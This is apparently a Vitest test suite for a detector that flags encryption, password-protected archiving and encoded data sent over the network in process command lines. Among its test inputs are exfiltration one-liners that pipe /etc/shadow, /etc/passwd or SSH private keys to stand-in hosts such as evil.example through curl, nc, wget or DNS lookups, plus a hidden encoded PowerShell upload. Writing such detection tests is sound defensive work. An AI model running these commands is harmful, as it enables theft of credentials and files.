import { describe, expect, it } from 'vitest';
import type { ProcessEvent } from '../../core/events.js';
import { analyseCommandLine, analyseProcessEvent, describeKey, isCipherName, maskSecret, type CryptoUse } from './index.js';

const uses = (commandLine: string): CryptoUse[] => analyseCommandLine({ commandLine }).uses;
const forms = (commandLine: string): string[] => uses(commandLine).map((u) => u.form);
const ps64 = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

describe('openssl', () => {
  it.each([
    ['openssl enc -aes-256-cbc -salt -in a.tar -out a.enc', 'aes-256-cbc'],
    ['/usr/bin/openssl enc -e -in a -out b -aes-128-ctr -k pw', 'aes-128-ctr'],
    ['OPENSSL.EXE enc -rc4 -in a -out b -K 00112233 -iv 0a0b', 'rc4'],
    ['openssl aes-256-cbc -pbkdf2 -iter 100000 -in a -out a.aes -pass pass:x', 'aes-256-cbc'],
    ['openssl bf-cbc -in a -out a.bf -kfile /root/.k', 'bf-cbc'],
    ['openssl des3 -in a -out a.d', 'des3'],
    ['openssl enc -chacha20 -in a -out b', 'chacha20'],
    ['openssl camellia-256-cbc -in a', 'camellia-256-cbc'],
    ['openssl enc -cipher aes-192-cbc -in a', 'aes-192-cbc'],
  ])('recognises %s', (line, cipher) => {
    const [use] = uses(line);
    expect(use?.form).toBe('openssl-enc');
    expect(use?.category).toBe('encrypt');
    expect(use?.cipher).toBe(cipher);
  });

  it('lifts every key option', () => {
    const [use] = uses('openssl enc -aes-256-cbc -k hunter2 -pass pass:pw1 -K 0011 -iv 2233 -kfile /k -out /tmp/x.enc');
    expect(use!.keys).toEqual([
      { kind: 'passphrase', value: 'hunter2', option: '-k' },
      { kind: 'passphrase', value: 'pw1', option: '-pass pass:' },
      { kind: 'key_file', value: '/k', option: '-kfile' },
      { kind: 'key_hex', value: '0011', option: '-K' },
      { kind: 'iv_hex', value: '2233', option: '-iv' },
    ]);
    expect(use!.outputs).toEqual(['/tmp/x.enc']);
    expect(uses('openssl enc -aes-256-cbc -pass env:SECRET')[0]!.keys).toEqual([{ kind: 'key_env', value: 'SECRET', option: '-pass env:' }]);
    expect(uses('openssl enc -aes-256-cbc -pass file:/tmp/k')[0]!.keys).toEqual([{ kind: 'key_file', value: '/tmp/k', option: '-pass file:' }]);
  });

  it.each([
    'openssl dgst -sha256 file',
    'openssl s_client -connect example.com:443',
    'openssl enc -d -aes-256-cbc -in a.enc -out a',
    'openssl aes-256-cbc -d -in a.enc',
    'openssl rand -hex 16',
    'openssl req -new -key k.pem',
    'openssl enc -base64 -in a',
    'openssl base64 -in a -out b',
  ])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });

  it('treats openssl base64 as encoding only when it feeds the network', () => {
    expect(forms('openssl base64 -in /etc/passwd | nc evil.example 80')).toEqual(['encode-to-network']);
  });
});

describe('gpg', () => {
  it.each([
    'gpg -c secrets.tar',
    'gpg2 --symmetric --cipher-algo AES256 secrets.tar',
    '"C:\\Program Files (x86)\\GnuPG\\bin\\gpg.exe" --batch --yes --passphrase S3cr3t! -c C:\\x.zip',
    'gpg --batch --passphrase=S3cr3t! --symmetric -o /tmp/out.gpg a',
    'gpg -ac a.txt',
    'gpg --pinentry-mode loopback --passphrase-file /dev/shm/p -c a',
  ])('recognises %s', (line) => {
    expect(forms(line)).toEqual(['gpg-symmetric']);
  });
  it('keeps the passphrase, cipher and output', () => {
    const [use] = uses('gpg --batch --passphrase=S3cr3t! --cipher-algo TWOFISH --symmetric -o /tmp/out.gpg a');
    expect(use!.keys).toEqual([{ kind: 'passphrase', value: 'S3cr3t!', option: '--passphrase' }]);
    expect(use!.cipher).toBe('TWOFISH');
    expect(use!.outputs).toEqual(['/tmp/out.gpg']);
  });
  it.each(['gpg --verify a.sig a', 'gpg -d a.gpg', 'gpg --decrypt a.gpg', 'gpg --list-keys', 'gpg -e -r bob a', 'gpg --import k.asc', 'gpg -o out.txt a'])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
});

describe('archivers with passwords', () => {
  it.each([
    ['7z a -pInfected123 -mhe=on C:\\Temp\\o.7z C:\\Users\\bob\\Documents', '7z-encrypted-headers', 'Infected123'],
    ['"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -pS3 out.zip dir', '7z-password', 'S3'],
    ['7za a -p arch.7z dir', '7z-password', undefined],
    ['7z u -mhe -ppw arch.7z dir', '7z-encrypted-headers', 'pw'],
    ['zip -r -e out.zip dir', 'zip-password', undefined],
    ['zip -P hunter2 -r out.zip dir', 'zip-password', 'hunter2'],
    ['zip -r9e out.zip dir', 'zip-password', undefined],
    ['zip --password pw out.zip dir', 'zip-password', 'pw'],
    ['rar a -pK3y out.rar dir', 'rar-password', 'K3y'],
    ['"C:\\Program Files\\WinRAR\\Rar.exe" a -hpK3y -r out.rar C:\\data', 'rar-encrypted-headers', 'K3y'],
  ])('recognises %s', (line, form, password) => {
    const [use] = uses(line);
    expect(use?.form).toBe(form);
    expect(use?.category).toBe('archive');
    expect(use?.keys[0]?.value).toBe(password);
  });
  it('names the archive written', () => {
    expect(uses('7z a -pX C:\\Temp\\o.7z C:\\data')[0]!.outputs).toEqual(['C:\\Temp\\o.7z']);
    expect(uses('zip -P pw -r /tmp/o.zip /srv')[0]!.outputs).toEqual(['/tmp/o.zip']);
  });
  it.each(['7z x -pS3 arch.7z', '7z a arch.7z dir', '7z l arch.7z', 'zip -r out.zip dir', 'unzip -P pw a.zip', 'rar x -pK a.rar', 'rar a out.rar dir', 'rar a -p- out.rar dir'])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
});

describe('certutil', () => {
  it.each(['certutil -encode a.zip a.txt', 'CertUtil.exe /encode a b', 'C:\\Windows\\System32\\certutil.exe -f -encodehex a.bin a.hex', 'certutil -ENCODE a b'])('recognises %s', (line) => {
    expect(forms(line)).toEqual(['certutil-encode']);
  });
  it.each(['certutil -decode a.txt a.zip', 'certutil -urlcache -split -f http://x/a.exe', 'certutil -hashfile a SHA256'])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
});

describe('dedicated encryption tools', () => {
  it.each([
    ['ccrypt -K s3cr3t -e data.tar', 'ccrypt', 's3cr3t'],
    ['ccencrypt data.tar', 'ccrypt', undefined],
    ['mcrypt -a blowfish -k s3cr3t data.tar', 'mcrypt', 's3cr3t'],
    ['aescrypt -e -p s3cr3t -o out.aes data.tar', 'aescrypt', 's3cr3t'],
    ['age -p -o out.age data.tar', 'age-passphrase', undefined],
    ['age --passphrase data.tar', 'age-passphrase', undefined],
  ])('recognises %s', (line, form, secret) => {
    const [use] = uses(line);
    expect(use?.form).toBe(form);
    expect(use?.keys.find((k) => k.kind === 'passphrase')?.value).toBe(secret);
  });
  it.each(['ccrypt -d data.cpt', 'ccdecrypt data.cpt', 'mcrypt -d data.nc', 'aescrypt -d -p x a.aes', 'age -d -i key.txt a.age', 'age -r age1abc a'])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
});

describe('encoding feeding the network', () => {
  it.each([
    ['base64 /etc/shadow | curl -d @- http://evil.example/u', 'curl'],
    ['cat db.sql | base64 -w0 | tr -d = | nc 203.0.113.5 53', 'nc'],
    ['wget --post-data="d=$(base64 -w0 ~/.ssh/id_rsa)" http://evil.example', 'wget'],
    ['xxd -p secret.bin | while read l; do dig $l.evil.example; done', undefined],
    ['for l in `xxd -p f`; do nslookup $l.x.example; done', undefined],
    ['curl -F "a=`base64 f`" http://x', 'curl'],
  ])('recognises %s', (line, tool) => {
    const found = uses(line);
    if (tool === undefined) {
      // A loop body is a separate command: the encoder does not pipe into it, so nothing is claimed.
      expect(found).toEqual([]);
    } else {
      expect(found.map((u) => [u.form, u.sentWith])).toEqual([['encode-to-network', tool]]);
    }
  });
  it.each(['base64 -d blob > a.bin', 'base64 image.png > image.txt', 'xxd -r -p a.hex | curl -T - ftp://x', 'xxd a.bin | less'])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
});

describe('interpreters', () => {
  it.each([
    `python -c 'import Crypto.Cipher.AES'`,
    `python3 -c "from Crypto.Cipher import AES; c=AES.new(b'0123456789abcdef', AES.MODE_ECB); open('o','wb').write(c.encrypt(open('i','rb').read()))"`,
    `/usr/bin/python3.11 -c "from Cryptodome.Cipher import ChaCha20"`,
    `py -c "from cryptography.fernet import Fernet; f=Fernet(b'k'*43+b'='); print(f.encrypt(b'x'))"`,
    `python3 -c "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes"`,
  ])('recognises %s', (line) => {
    expect(forms(line)).toEqual(['python-crypto']);
  });
  it('lifts literal keys', () => {
    const [use] = uses(`python3 -c "from Crypto.Cipher import AES; c=AES.new(b'0123456789abcdef', AES.MODE_ECB); c.encrypt(d)"`);
    expect(use!.keys).toEqual([{ kind: 'key_literal', value: '0123456789abcdef', option: 'AES.new' }]);
    expect(use!.cipher).toBe('AES');
  });
  it.each([
    `python3 -c "import hashlib; print(hashlib.sha256(b'x'))"`,
    `python3 -c "from Crypto.Cipher import AES; AES.new(k, AES.MODE_CBC, iv).decrypt(d)"`,
    `python3 script.py --key Crypto.Cipher`,
  ])('does not fire on %s', (line) => {
    expect(uses(line)).toEqual([]);
  });

  it('reads PowerShell crypto classes inside -EncodedCommand', () => {
    const script = '$a=New-Object System.Security.Cryptography.AesManaged; $a.Key = [Convert]::FromBase64String("c2VjcmV0c2VjcmV0c2VjcmV0"); $e=$a.CreateEncryptor(); Invoke-WebRequest -Uri http://x -Method Post -Body $b';
    const [use] = uses(`powershell.exe -NoP -NonI -W Hidden -Enc ${ps64(script)}`);
    expect(use!.form).toBe('powershell-crypto');
    expect(use!.decoded).toBe(true);
    expect(use!.sentWith).toBe('invoke-webrequest');
    expect(use!.keys[0]!.value).toBe('[Convert]::FromBase64String("c2VjcmV0c2VjcmV0c2VjcmV0")');
  });
  it.each([
    'powershell -c "$r = New-Object System.Security.Cryptography.RijndaelManaged; $r.CreateEncryptor()"',
    'pwsh -Command "[System.Security.Cryptography.Aes]::Create()"',
    'powershell "$p = New-Object Security.Cryptography.AesCryptoServiceProvider"',
  ])('recognises PowerShell %s', (line) => {
    expect(forms(line)).toEqual(['powershell-crypto']);
  });
  it('recognises SecureString conversion with a key', () => {
    const [use] = uses('powershell -c "ConvertTo-SecureString -String $s -Key (1..16) | Out-File x"');
    expect(use!.form).toBe('powershell-securestring');
    expect(use!.keys[0]!.value).toBe('(1..16)');
    expect(forms('powershell -c "$s | ConvertFrom-SecureString -Key $k"')).toEqual(['powershell-securestring']);
  });
  it.each([
    'powershell -c "ConvertTo-SecureString P@ss -AsPlainText -Force"',
    'powershell -c "[System.Security.Cryptography.SHA256]::Create()"',
    'powershell -c "[Convert]::ToBase64String($b) | Out-File x.txt"',
  ])('does not fire on PowerShell %s', (line) => {
    expect(uses(line)).toEqual([]);
  });
  it('recognises Base64 sent from PowerShell', () => {
    expect(forms(`powershell -enc ${ps64('$d=[Convert]::ToBase64String([IO.File]::ReadAllBytes("c:\\x")); iwr http://x/?d=$d')}`)).toEqual(['encode-to-network']);
  });
});

describe('wrappers, case and paths', () => {
  it('unwraps bash -c with a pipeline into openssl and curl', () => {
    const [use] = uses(`bash -c "tar czf - /home/bob | openssl enc -aes-256-cbc -pass pass:hunter22 | curl -T - ftp://203.0.113.9/u"`);
    expect(use).toMatchObject({ form: 'openssl-enc', sentWith: 'curl', keys: [{ value: 'hunter22' }] });
  });
  it('unwraps cmd /c with carets and a later upload of the output', () => {
    const [use] = uses('C:\\Windows\\system32\\cmd.exe /c "ce^rtutil -encode C:\\t\\a.zip C:\\t\\a.txt && curl -F f=@C:\\t\\a.txt http://x"');
    expect(use).toMatchObject({ form: 'certutil-encode', sentWith: 'curl' });
  });
  it('unwraps sudo, env, nohup and nested shells', () => {
    expect(forms(`sudo -u root env LANG=C nohup sh -c 'bash -lc "gpg -c --batch --passphrase x f"'`)).toEqual(['gpg-symmetric']);
  });
  it('unwraps cmd → powershell -enc → 7z', () => {
    expect(forms(`cmd.exe /c powershell -e ${ps64('& "C:\\Program Files\\7-Zip\\7z.exe" a -pX -mhe out.7z C:\\data')}`)).toEqual(['7z-encrypted-headers']);
  });
  it('uses a recorded argv as it is (auditd)', () => {
    const found = analyseCommandLine({ argv: ['/usr/bin/openssl', 'enc', '-aes-256-cbc', '-k', 'a b c', '-in', 'x'] }).uses;
    expect(found[0]!.keys[0]!.value).toBe('a b c');
  });
  it('says when a nesting cap was reached', () => {
    let line = 'openssl enc -aes-256-cbc -in a';
    for (let i = 0; i < 10; i++) line = `sh -c ${JSON.stringify(line)}`;
    const result = analyseCommandLine({ commandLine: line });
    expect(result.uses).toEqual([]);
    expect(result.expansion.limitsHit).toContain('max_nesting_depth');
    expect(analyseCommandLine({ commandLine: line }, { maxLength: 1 << 16, maxDepth: 16, maxCommands: 256 }).uses).toHaveLength(1);
  });
  it('scans hostile 32 KiB arguments in linear time', () => {
    for (const arg of ['-' + 'c'.repeat(32_000) + '!', '-' + 'a'.repeat(32_000), 'A'.repeat(32_000) + '!']) {
      expect(analyseCommandLine({ argv: ['bash', arg, 'x'] }).uses).toEqual([]);
      expect(analyseCommandLine({ argv: ['powershell', '-enc', arg] }).uses).toEqual([]);
      expect(analyseCommandLine({ argv: ['zip', arg, 'o.zip'] }).uses.length).toBeLessThanOrEqual(1);
    }
  });
  it('says when the length and command caps were reached', () => {
    const long = analyseCommandLine({ commandLine: 'echo ' + 'a'.repeat(100) }, { maxLength: 20, maxDepth: 6, maxCommands: 256 });
    expect(long.expansion.limitsHit).toEqual(['max_command_line_length']);
    const many = analyseCommandLine({ commandLine: 'true; '.repeat(50) + 'openssl enc -aes-256-cbc' }, { maxLength: 1 << 16, maxDepth: 6, maxCommands: 10 });
    expect(many.expansion.limitsHit).toContain('max_commands');
    expect(many.uses).toEqual([]);
  });
});

describe('cipher names and masking', () => {
  it('knows cipher names by family', () => {
    for (const name of ['aes-256-cbc', 'AES256', 'rc4', 'rc4-40', 'bf', 'bf-cbc', 'des-ede3-cbc', 'des3', 'chacha20', 'camellia-128-ecb', 'sm4-ctr']) expect(isCipherName(name), name).toBe(true);
    for (const name of ['dgst', 's_client', 'rsa', 'base64', 'rand', 'desktop', 'aesthetic']) expect(isCipherName(name), name).toBe(false);
  });
  it('masks secrets but shows key files', () => {
    expect(maskSecret('hunter22')).toBe('hu… (8 chars)');
    expect(maskSecret('abc')).toBe('*** (3 chars)');
    expect(describeKey({ kind: 'passphrase', value: 'hunter22', option: '-k' })).not.toContain('hunter22');
    expect(describeKey({ kind: 'key_file', value: '/root/k', option: '-kfile' })).toBe('-kfile /root/k');
  });
});

describe('analyseProcessEvent', () => {
  const event = (commandLine: string): ProcessEvent => ({
    kind: 'process', ts: 1, host: 'ws1', source: { reader: 'test', path: 'x', line: 1 }, process: { image: 'C:\\7z.exe', command_line: commandLine },
  });
  const limits = { max_command_line_length: 32768, max_nesting_depth: 8, max_commands: 64 };

  it('analyses an event once for every detector reading it with the same limits, and again under other limits', () => {
    const e = event('7z a -pS3cret -mhe=on out.7z docs');
    const first = analyseProcessEvent(e, limits);
    expect(first.uses.map((u) => u.form)).toEqual(['7z-encrypted-headers']);
    expect(analyseProcessEvent(e, { ...limits })).toBe(first);
    const shorter = analyseProcessEvent(e, { ...limits, max_command_line_length: 256 });
    expect(shorter).not.toBe(first);
    expect(shorter.uses.map((u) => u.form)).toEqual(['7z-encrypted-headers']);
    expect(analyseProcessEvent(event('7z a -pS3cret -mhe=on out.7z docs'), limits)).not.toBe(first);
  });
});
